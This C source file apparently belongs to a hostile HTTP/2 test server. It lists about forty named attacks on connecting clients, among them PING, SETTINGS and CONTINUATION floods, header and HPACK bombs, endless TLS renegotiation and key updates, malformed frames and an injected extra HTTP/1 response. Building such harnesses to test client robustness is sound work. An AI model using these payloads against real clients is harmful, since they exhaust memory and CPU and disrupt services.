#include "attacks.h"

#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char zeros[FRAME_MAX_BYTES + 1];

static bool data(struct session *session, uint32_t stream, unsigned flags,
		 size_t len)
{
	return session_frame(session, FRAME_DATA, flags, stream, zeros, len);
}

/* The same frame, until the client goes away. */
static bool flood(struct session *session, unsigned type, unsigned flags,
		  uint32_t stream, size_t len)
{
	while (session_frame(session, type, flags, stream, zeros, len))
		;
	return false;
}

static bool answer(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       data(session, stream, FLAG_END_STREAM, 1000);
}

static bool ping(struct session *session, uint32_t stream)
{
	(void)stream;
	return flood(session, FRAME_PING, 0, 0, 8);
}

static bool settings(struct session *session, uint32_t stream)
{
	(void)stream;
	return flood(session, FRAME_SETTINGS, 0, 0, 0);
}

static bool unknown(struct session *session, uint32_t stream)
{
	(void)stream;
	return flood(session, FRAME_UNKNOWN, 0, 0, 1000);
}

static bool priority(struct session *session, uint32_t stream)
{
	return flood(session, FRAME_PRIORITY, 0, stream + 2, 5);
}

static bool goaways(struct session *session, uint32_t stream)
{
	unsigned char payload[8] = {0, 0, 0, (unsigned char)stream};

	while (session_frame(session, FRAME_GOAWAY, 0, 0, payload, 8))
		;
	return false;
}

static bool refuse(struct session *session, uint32_t stream)
{
	return session_number(session, FRAME_RST_STREAM, stream, 7);
}

static bool reset_behind_head(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       session_number(session, FRAME_RST_STREAM, stream, 2);
}

/* NO_ERROR, although there is more to come. */
static bool reset_in_body(struct session *session, uint32_t stream)
{
	return session_head(session, stream, -1) &&
	       data(session, stream, 0, 500) &&
	       session_number(session, FRAME_RST_STREAM, stream, 0);
}

static bool lost_stream(struct session *session, uint32_t stream)
{
	unsigned char payload[8] = {0};

	(void)stream;
	session_frame(session, FRAME_GOAWAY, 0, 0, payload, 8);
	return false;
}

static bool broken_off(struct session *session, uint32_t stream)
{
	session_head(session, stream, -1);
	data(session, stream, 0, 500);
	session_hang_up(session);
	return false;
}

/* A field of 4,000 bytes and its name; returns where it ends. */
static unsigned char *put_large_field(unsigned char *block)
{
	char value[4000];

	memset(value, 'x', sizeof(value));
	session_put_field(&block, "x-a", value, sizeof(value));
	return block;
}

/* A head with so many of these; END_HEADERS comes only then. */
static bool large_head(struct session *session, uint32_t stream, unsigned count)
{
	unsigned char block[4100];
	size_t len = (size_t)(put_large_field(block) - block);

	if (!session_frame(session, FRAME_HEADERS, 0, stream, "\x88", 1))
		return false;
	while (count-- > 0)
		if (!session_frame(session, FRAME_CONTINUATION, 0, stream,
				   block, len))
			return false;
	return session_frame(session, FRAME_CONTINUATION, FLAG_END_HEADERS,
			     stream, NULL, 0);
}

static bool header_bomb(struct session *session, uint32_t stream)
{
	return large_head(session, stream, 500) &&
	       data(session, stream, FLAG_END_STREAM, 1000);
}

static bool endless_head(struct session *session, uint32_t stream)
{
	return large_head(session, stream, UINT32_MAX);
}

static bool empty_continuations(struct session *session, uint32_t stream)
{
	session_frame(session, FRAME_HEADERS, 0, stream, "\x88", 1);
	return flood(session, FRAME_CONTINUATION, 0, stream, 0);
}

/* A field goes into the table, and then is named by a byte each time. */
static bool hpack_bomb(struct session *session, uint32_t stream)
{
	unsigned char block[FRAME_MAX_BYTES] = {0x88};
	unsigned char *end = put_large_field(block + 1);

	block[1] = 0x40; /* literal, to be indexed: the first dynamic one */
	memset(end, 0x80 + 62, (size_t)(block + sizeof(block) - end));
	return session_frame(session, FRAME_HEADERS, FLAG_END_HEADERS, stream,
			     block, sizeof(block)) &&
	       data(session, stream, FLAG_END_STREAM, 1000);
}

static bool informational(struct session *session, uint32_t stream)
{
	unsigned char block[16];
	unsigned char *end = block;

	session_put_field(&end, ":status", "103", 3);
	while (session_frame(session, FRAME_HEADERS, FLAG_END_HEADERS, stream,
			     block, (size_t)(end - block)))
		;
	return false;
}

/* Trailers end a stream, so these are one head without end. */
static bool trailers(struct session *session, uint32_t stream)
{
	unsigned char block[4100];
	size_t len = (size_t)(put_large_field(block) - block);
	unsigned type = FRAME_HEADERS;

	if (!session_head(session, stream, -1) ||
	    !data(session, stream, 0, 1000))
		return false;
	while (session_frame(session, type,
			     type == FRAME_HEADERS ? FLAG_END_STREAM : 0,
			     stream, block, len))
		type = FRAME_CONTINUATION;
	return false;
}

static bool empty_data(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       flood(session, FRAME_DATA, 0, stream, 0);
}

/* Frames of nothing but padding, and none of it is read back. */
static bool padding(struct session *session, uint32_t stream)
{
	char payload[256] = {(char)255};

	if (!session_head(session, stream, 1000))
		return false;
	while (session_frame(session, FRAME_DATA, FLAG_PADDED, stream, payload,
			     sizeof(payload)))
		;
	return false;
}

static bool endless_body(struct session *session, uint32_t stream)
{
	return session_head(session, stream, -1) &&
	       flood(session, FRAME_DATA, 0, stream, 1000);
}

static bool too_short(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       data(session, stream, FLAG_END_STREAM, 500);
}

static bool too_long(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       data(session, stream, FLAG_END_STREAM, 1500);
}

static bool behind_the_end(struct session *session, uint32_t stream)
{
	return answer(session, stream) &&
	       data(session, stream, FLAG_END_STREAM, 1000);
}

static bool second_head(struct session *session, uint32_t stream)
{
	return session_head(session, stream, -1) &&
	       session_head(session, stream, -1) &&
	       data(session, stream, FLAG_END_STREAM, 1000);
}

static bool stream_zero(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       data(session, 0, FLAG_END_STREAM, 1000);
}

static bool idle_stream(struct session *session, uint32_t stream)
{
	return session_head(session, stream, 1000) &&
	       data(session, stream + 100, FLAG_END_STREAM, 1000);
}

static bool promise(struct session *session, uint32_t stream)
{
	unsigned char payload[5] = {0, 0, 0, 2, 0x88};

	return session_frame(session, FRAME_PUSH_PROMISE, FLAG_END_HEADERS,
			     stream, payload, 5) &&
	       answer(session, stream);
}

static bool no_window(struct session *session, uint32_t stream)
{
	return session_number(session, FRAME_WINDOW_UPDATE, stream, 0) &&
	       answer(session, stream);
}

static bool huge_window(struct session *session, uint32_t stream)
{
	return session_number(session, FRAME_WINDOW_UPDATE, 0, 0x7fffffff) &&
	       session_number(session, FRAME_WINDOW_UPDATE, 0, 0x7fffffff) &&
	       answer(session, stream);
}

static bool large_frame(struct session *session, uint32_t stream)
{
	return session_head(session, stream, -1) &&
	       data(session, stream, FLAG_END_STREAM, FRAME_MAX_BYTES + 1);
}

static bool odd_settings(struct session *session, uint32_t stream)
{
	return session_setting(session, 4, 0x80000000) &&
	       answer(session, stream);
}

static bool huge_settings(struct session *session, uint32_t stream)
{
	return session_setting(session, 1, UINT32_MAX) &&
	       session_setting(session, 5, 0xffffff) &&
	       session_setting(session, 6, 0) && answer(session, stream);
}

static bool silence(struct session *session, uint32_t stream)
{
	(void)stream;
	session_drain(session);
	return false;
}

static bool no_streams(struct session *session)
{
	return session_setting(session, 3, 0);
}

static bool begin_nothing(struct session *session)
{
	session_drain(session);
	return false;
}

static bool begin_http1(struct session *session)
{
	static const char text[] = "HTTP/1.1 200 OK\r\n"
				   "Content-Length: 5\r\n\r\nhello";

	return session_write(session, text, sizeof(text) - 1);
}

/* On TLS 1.2: shake hands again and again. */
static bool begin_again(struct session *session)
{
	char dropped[4096];

	SSL_clear_mode(session->ssl, SSL_MODE_AUTO_RETRY);
	while (SSL_renegotiate(session->ssl) == 1 &&
	       SSL_do_handshake(session->ssl) == 1)
		while (SSL_renegotiate_pending(session->ssl)) {
			int n = SSL_read(session->ssl, dropped,
					 sizeof(dropped));

			if (n <= 0 && SSL_get_error(session->ssl, n) !=
					      SSL_ERROR_WANT_READ)
				return false;
		}
	return false;
}

/* On TLS 1.3. */
static bool begin_tickets(struct session *session)
{
	while (SSL_new_session_ticket(session->ssl) == 1 &&
	       SSL_do_handshake(session->ssl) == 1)
		;
	return false;
}

static bool begin_keys(struct session *session)
{
	while (SSL_key_update(session->ssl, SSL_KEY_UPDATE_NOT_REQUESTED) ==
		       1 &&
	       SSL_do_handshake(session->ssl) == 1)
		;
	return false;
}

static bool say(struct session *session, const char *text)
{
	return session_write(session, text, strlen(text));
}

/*
 * In HTTP/1: once the head has been read, the body and another answer, in one
 * record of TLS.
 */
static bool begin_excess(struct session *session)
{
	bool is_slow;

	while (session_read_head(session, "/slow", &is_slow)) {
		say(session, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n");
		usleep(50000);
		say(session, "helloHTTP/1.1 200 OK\r\nContent-Length: 4\r\n"
			     "\r\nevil");
	}
	return false;
}

/* In HTTP/1: says who asks again before the answer to "/slow". */
static bool begin_claim(struct session *session)
{
	bool is_slow;

	while (session_read_head(session, "/slow", &is_slow)) {
		struct pollfd readable = {session->fd, POLLIN, 0};

		if (is_slow && poll(&readable, 1, 500) > 0) {
			puts("asked again");
			fflush(stdout);
		}
		say(session, "HTTP/2 200 OK\r\nContent-Length: 5\r\n\r\nhello");
	}
	return false;
}

static const struct attack attacks[] = {
	{"none", answer, NULL, "an answer that is all right", false},
	{"ping", ping, NULL, "PING without end", false},
	{"settings", settings, NULL, "SETTINGS without end", false},
	{"unknown", unknown, NULL, "frames of an unknown type without end", false},
	{"priority", priority, NULL, "PRIORITY without end", false},
	{"goaways", goaways, NULL, "GOAWAY without end", false},
	{"refuse", refuse, NULL, "each stream is refused", false},
	{"reset-behind-head", reset_behind_head, NULL, "RST_STREAM for a body", false},
	{"reset-in-body", reset_in_body, NULL, "RST_STREAM, NO_ERROR, midway", false},
	{"lost-stream", lost_stream, NULL, "GOAWAY that names no stream", false},
	{"broken-off", broken_off, NULL, "no end of the body, nor of TLS", false},
	{"header-bomb", header_bomb, NULL, "a head of 2 MB", false},
	{"endless-head", endless_head, NULL, "CONTINUATION without end", false},
	{"empty-continuations", empty_continuations, NULL,
	 "the same, with nothing in them", false},
	{"hpack-bomb", hpack_bomb, NULL, "48 MB of head in 16 KiB", false},
	{"informational", informational, NULL, "103 without end", false},
	{"trailers", trailers, NULL, "trailers without end", false},
	{"empty-data", empty_data, NULL, "DATA with nothing in it without end", false},
	{"padding", padding, NULL, "DATA with padding alone without end", false},
	{"endless-body", endless_body, NULL, "a body without end", false},
	{"too-short", too_short, NULL, "half of the length that it said", false},
	{"too-long", too_long, NULL, "more than the length that it said", false},
	{"behind-the-end", behind_the_end, NULL, "DATA behind END_STREAM", false},
	{"second-head", second_head, NULL, "a second head without an end", false},
	{"stream-zero", stream_zero, NULL, "the body on stream 0", false},
	{"idle-stream", idle_stream, NULL, "the body on a stream not opened", false},
	{"promise", promise, NULL, "a push that was not wanted", false},
	{"no-window", no_window, NULL, "WINDOW_UPDATE of 0", false},
	{"huge-window", huge_window, NULL, "WINDOW_UPDATE past the most", false},
	{"large-frame", large_frame, NULL, "a frame longer than allowed", false},
	{"odd-settings", odd_settings, NULL, "a window of 2 GiB", false},
	{"huge-settings", huge_settings, NULL, "a header table of 4 GiB", false},
	{"silence", silence, NULL, "no answer", false},
	{"no-streams", answer, no_streams, "no stream may be opened", false},
	{"nothing", answer, begin_nothing, "no frame at all", false},
	{"http1", answer, begin_http1, "HTTP/1.1 where HTTP/2 was agreed on", false},
	{"renegotiation", answer, begin_again,
	 "new handshakes without end (TLS 1.2)", false},
	{"tickets", answer, begin_tickets, "session tickets without end", false},
	{"keys", answer, begin_keys, "new keys of TLS without end", false},
	{"claim", answer, begin_claim, "HTTP/2 claimed in HTTP/1", true},
	{"excess", answer, begin_excess, "two answers at once, in HTTP/1", true},
};

const struct attack *attack_find(const char *name)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(attacks[i].name, name) == 0)
			return &attacks[i];
	return NULL;
}

void attacks_print(void)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		printf("%s\t%s\n", attacks[i].name, attacks[i].what);
}
